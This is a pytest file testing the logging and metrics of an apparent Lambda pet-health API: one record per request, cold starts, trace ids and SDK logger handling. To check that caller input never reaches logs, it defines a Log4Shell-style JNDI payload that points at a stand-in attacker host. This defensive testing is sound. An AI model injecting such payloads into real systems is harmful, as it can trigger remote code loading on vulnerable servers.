"""What on-call reads (petsage_api.observability): one record per invocation, metrics and fields together,
nothing the caller sent; Logger lines with the same ids; which loggers the function takes over."""

from __future__ import annotations

import json
import logging
import warnings
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest

from petsage_api import observability
from petsage_api.health.models import HealthCheckResponse
from tests.conftest import (
    API_FUNCTION_DIR,
    Invoke,
    fresh_environment,
    load_event,
    records,
    request,
    run_in_fresh_interpreter,
)
from tests.readiness_helpers import probe, use_probe

Written = Callable[[], list[dict[str, Any]]]
INJECTION = "${jndi:ldap://attacker.invalid/a}"


def directive(record: dict[str, Any]) -> dict[str, Any]:
    [only] = record["_aws"]["CloudWatchMetrics"]
    assert isinstance(only, dict)
    return only


def metric_units(record: dict[str, Any]) -> dict[str, str]:
    return {metric["Name"]: metric["Unit"] for metric in directive(record)["Metrics"]}


def explode() -> HealthCheckResponse:
    raise RuntimeError("boom")


# --- the invocation's record ------------------------------------------------------------------------


def test_a_request_writes_exactly_one_line_holding_its_metrics_and_fields(invoke: Invoke, written: Written) -> None:
    event = request()
    invoke(event)
    [line] = written()
    assert (line["message"], line["level"]) == ("Request answered", "INFO")
    assert (line["route"], line["status"]) == ("GET /api/v1/health", 200)
    assert line["correlation_id"] == event["requestContext"]["requestId"]  # the access log's requestId
    assert (line["service"], line["deployment"], line["version"]) == ("petsage-api", "local", "$LATEST")
    # The same line is the EMF document CloudWatch turns into metrics: the deployment's totals, and
    # each version's own, which the deploy gate reads.
    assert directive(line)["Namespace"] == "PetSage"
    assert directive(line)["Dimensions"] == [["deployment", "service"], ["deployment", "service", "version"]]
    assert metric_units(line)["Faults"] == "Count"
    assert line["Faults"] == [0.0]  # one sample per request: its SampleCount counts requests


def test_the_version_dimension_is_the_published_version_lambda_runs() -> None:
    code = "from petsage_api import observability; print(observability.VERSION)"
    environment = {"AWS_LAMBDA_FUNCTION_VERSION": "42", "PYTHONPATH": str(API_FUNCTION_DIR)}
    assert run_in_fresh_interpreter(code, env=environment).stdout.strip() == "42"


def test_latency_is_the_answers_time_in_milliseconds_to_the_microsecond(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    readings = [100.0, 100.0123456]  # begun, recorded
    monkeypatch.setattr("petsage_api.http_api.time", SimpleNamespace(perf_counter=lambda: readings.pop(0)))
    monkeypatch.setattr(observability, "time", SimpleNamespace(perf_counter=lambda: readings.pop(0)))
    invoke(request())
    [line] = written()
    assert line["latency_ms"] == 12.346


def test_the_lambda_request_id_is_the_contexts(written: Written) -> None:
    from handler import lambda_handler
    from local_api.lambda_runtime import LocalLambdaContext

    context = LocalLambdaContext(function_name="HealthFunction")
    lambda_handler(request("GET", "/"), context)
    [line] = written()
    assert line["function_request_id"] == context.aws_request_id


def test_a_cold_start_is_counted_in_the_first_record_only(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh_environment(monkeypatch)
    invoke(request())
    invoke(request())
    first, second = written()
    assert (first["cold_start"], second["cold_start"]) == (True, False)
    assert (metric_units(first), first["ColdStart"]) == ({"Faults": "Count", "ColdStart": "Count"}, [1.0])
    assert metric_units(second) == {"Faults": "Count"}


def test_provisioned_concurrency_is_never_a_cold_start(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh_environment(monkeypatch)
    monkeypatch.setenv("AWS_LAMBDA_INITIALIZATION_TYPE", "provisioned-concurrency")
    invoke(request())
    [line] = written()
    assert line["cold_start"] is False
    assert "ColdStart" not in metric_units(line)


@pytest.mark.parametrize(
    ("event", "route", "status"),
    [
        (request("GET", "/api/v1/health"), "GET /api/v1/health", 200),
        (request("HEAD", "/api/v1/health"), "HEAD /api/v1/health", 200),
        (request("GET", "/"), "GET /", 200),
        (request("GET", "/api/v1/health/ready"), "GET /api/v1/health/ready", 200),
        (request("GET", "/openapi.json"), "GET /openapi.json", 200),
        (request("GET", "/openapi.jsonX"), "not found", 404),
        (request("GET", f"/pets/{INJECTION}"), "not found", 404),  # never the caller's path
        (request("DELETE", "/api/v1/health"), "not found", 404),
        ({"version": "2.0", "rawPath": "/"}, "malformed", 400),
        ({}, "direct", 200),
        (load_event("scheduled"), "direct", 200),
    ],
)
def test_every_invocation_writes_one_record_naming_the_route_that_answered(
    invoke: Invoke, written: Written, event: Any, route: str, status: int
) -> None:
    invoke(event)
    [record] = records(written())
    assert (record["route"], record["status"], record["Faults"]) == (route, status, [0.0])


@pytest.mark.parametrize(
    ("event", "level", "message"),
    [
        ({"rawPath": "/"}, "WARNING", "Rejected a malformed HTTP API event"),
        ({}, "INFO", "Not an HTTP API request: answered with liveness"),
    ],
)
def test_a_rejected_or_direct_invocation_adds_one_logger_line_with_the_same_ids(
    invoke: Invoke, written: Written, event: Any, level: str, message: str
) -> None:
    invoke(event)
    lines = written()
    [line] = records(lines, message)
    [record] = records(lines)
    assert len(lines) == 2
    assert line["level"] == level
    assert (line["function_request_id"], line["deployment"]) == (record["function_request_id"], "local")


def test_a_500_is_a_fault_recorded_at_error_and_a_503_is_not(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("petsage_api.health.router.HealthCheckResponse", explode)
    invoke(request())
    monkeypatch.undo()
    use_probe(monkeypatch, probe(HEALTH_S3_BUCKETS="Not A Bucket!"))  # readiness: fail, 503
    invoke(request("GET", "/api/v1/health/ready"))
    lines = written()
    fault, not_ready = records(lines)
    assert (fault["level"], fault["status"], fault["Faults"]) == ("ERROR", 500, [1.0])
    assert (not_ready["level"], not_ready["status"], not_ready["Faults"]) == ("INFO", 503, [0.0])
    [error] = records(lines, "Unhandled error while resolving the request")
    assert error["function_request_id"] == fault["function_request_id"]


def test_whatever_fails_past_the_resolver_is_still_recorded_once_as_a_fault(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: Any, **__: Any) -> Any:
        raise RuntimeError("finishing failed")

    monkeypatch.setattr("petsage_api.http_api._finished", broken)
    with pytest.raises(RuntimeError, match="finishing failed"):  # the runtime sees the error...
        invoke(request())
    [record] = records(written())  # ...and on-call the record
    assert (record["route"], record["status"], record["level"], record["Faults"]) == ("unknown", 500, "ERROR", [1.0])


def test_no_line_warns_about_empty_metrics(invoke: Invoke) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # "No application metrics to publish" would raise here
        invoke({})
        invoke(request())


def test_disabled_metrics_print_no_record_and_keep_nothing(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("POWERTOOLS_METRICS_DISABLED", "true")
    for _ in range(3):
        invoke(request())
    assert records(written()) == []
    assert observability.metrics.metric_set == {}  # Powertools alone would keep them when disabled
    assert observability.metrics.metadata_set == {}


def test_header_cookie_body_and_query_values_never_reach_the_log_stream(invoke: Invoke, written: Written) -> None:
    headers = {"x-api-version": INJECTION, "user-agent": INJECTION, "cookie": f"session={INJECTION}"}
    invoke(request("POST", f"/api/v1/health?q={INJECTION}", headers=headers, body=INJECTION.encode()))
    malformed = request(headers={"user-agent": INJECTION})
    malformed["headers"][INJECTION] = 1  # a non-string header: malformed, and its name is caller text
    invoke(malformed)
    text = json.dumps(written())
    assert text.count("Request answered") == 2
    assert "jndi" not in text


def test_the_event_is_never_logged_even_when_powertools_is_told_to(tmp_path: Any) -> None:
    # POWERTOOLS_LOGGER_LOG_EVENT=true would make inject_lambda_context log whole events: headers
    # (a SigV4 Authorization among them), cookies, bodies. The handler turns it off for itself.
    event = request(headers={"authorization": "AWS4-HMAC-SHA256 Signature=secret-signature", "cookie": "s=secret"})
    code = (
        "import json, sys\nfrom local_api.lambda_runtime import LocalLambdaContext\n"
        "from handler import lambda_handler\n"
        "lambda_handler(json.loads(sys.argv[1]), LocalLambdaContext('HealthFunction'))"
    )
    path = f"{API_FUNCTION_DIR}:{API_FUNCTION_DIR.parents[1]}"
    environment = {"POWERTOOLS_LOGGER_LOG_EVENT": "true", "PYTHONPATH": path}
    result = run_in_fresh_interpreter(code, json.dumps(event), env=environment)
    assert "Request answered" in result.stdout  # the invocation was answered and recorded
    assert "secret" not in result.stdout + result.stderr


def test_no_key_of_one_invocation_leaks_into_the_next(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    def liveness_that_tags_the_log() -> HealthCheckResponse:
        observability.logger.append_keys(pet_id="first-invocation-only")
        observability.logger.warning("tagged")
        return HealthCheckResponse()

    monkeypatch.setattr("petsage_api.health.router.HealthCheckResponse", liveness_that_tags_the_log)
    invoke(request())
    monkeypatch.undo()
    invoke({"rawPath": "/"})
    invoke({})
    lines = written()
    [tagged] = records(lines, "tagged")
    [rejected] = records(lines, "Rejected a malformed HTTP API event")
    [direct] = records(lines, "Not an HTTP API request: answered with liveness")
    assert tagged["pet_id"] == "first-invocation-only"
    assert "pet_id" not in rejected
    assert "correlation_id" not in direct
    assert len({tagged["function_request_id"], rejected["function_request_id"], direct["function_request_id"]}) == 3


def test_the_record_carries_the_x_ray_trace_id_without_its_parent_and_sampling(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("_X_AMZN_TRACE_ID", "Root=1-69258a00-0123456789abcdef01234567;Parent=53995c3f42cd8ad8;Sampled=1")
    invoke(request())
    monkeypatch.delenv("_X_AMZN_TRACE_ID")
    invoke(request())
    traced, untraced = records(written())
    assert traced["xray_trace_id"] == "1-69258a00-0123456789abcdef01234567"
    assert "xray_trace_id" not in untraced


def test_every_logger_line_says_whether_its_invocation_was_a_cold_start(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh_environment(monkeypatch)
    invoke({})
    invoke({})
    lines = records(written(), "Not an HTTP API request: answered with liveness")
    assert [line["cold_start"] for line in lines] == [True, False]


# --- the SDK's loggers: warnings only, as JSON, whenever they are imported -------------------------


def test_sdk_loggers_write_only_warnings_in_the_functions_format(written: Written, invoke: Invoke) -> None:
    observability.quiet_third_party_loggers()
    invoke(request("GET", "/"))  # an invocation's keys are in place, as when readiness makes its clients
    logging.getLogger("botocore.credentials").info("Found credentials in environment variables.")
    logging.getLogger("urllib3.connectionpool").debug("Starting new HTTPS connection")
    logging.getLogger("botocore.endpoint").warning("Retrying request")
    lines = written()
    assert [line["message"] for line in lines] == ["Request answered", "Retrying request"]
    warning = lines[1]
    assert (warning["level"], warning["service"]) == ("WARNING", "petsage-api")
    assert warning["function_request_id"] == lines[0]["function_request_id"]
    assert not logging.getLogger("botocore").propagate  # the runtime's root handler never sees them


def test_sdk_loggers_imported_after_the_clients_are_made_write_warnings_as_json() -> None:
    # A fresh interpreter: urllib3 is not imported yet when readiness quiets the SDK's loggers.
    script = (
        "import logging, sys\n"
        "from petsage_api import observability\n"
        "assert 'urllib3' not in sys.modules\n"
        "observability.quiet_third_party_loggers()\n"
        "import urllib3\n"
        "logging.getLogger('urllib3.connectionpool').info('Starting new HTTPS connection')\n"
        "logging.getLogger('urllib3.connectionpool').warning('Retrying')\n"
    )
    result = run_in_fresh_interpreter(script)
    [line] = [json.loads(line) for line in result.stdout.splitlines()]
    assert (line["message"], line["level"], line["service"]) == ("Retrying", "WARNING", "petsage-api")
    assert result.stderr == ""  # nothing reached Python's last-resort handler in plain text


def test_only_the_sdks_loggers_are_taken_over() -> None:
    unrelated = logging.getLogger("petsage_unrelated_library")
    observability.quiet_third_party_loggers()
    assert (unrelated.level, unrelated.handlers, unrelated.propagate) == (logging.NOTSET, [], True)


@pytest.mark.parametrize("name", ["botocore", "boto3", "urllib3"])
def test_each_sdk_logger_is_taken_over_however_it_was_left(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    sdk = logging.getLogger(name)
    monkeypatch.setattr(sdk, "handlers", [])
    monkeypatch.setattr(sdk, "propagate", True)
    observability.quiet_third_party_loggers()
    assert (sdk.handlers, sdk.propagate) == (observability.logger.handlers, False)


def test_a_request_no_route_took_is_never_recorded_under_the_previous_ones_route(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    from petsage_api.app import app

    invoke(request())
    monkeypatch.setattr(app, "resolve", lambda event, context: explode())  # fails before choosing a route
    invoke(request())
    assert [record["route"] for record in records(written())] == ["GET /api/v1/health", "unknown"]
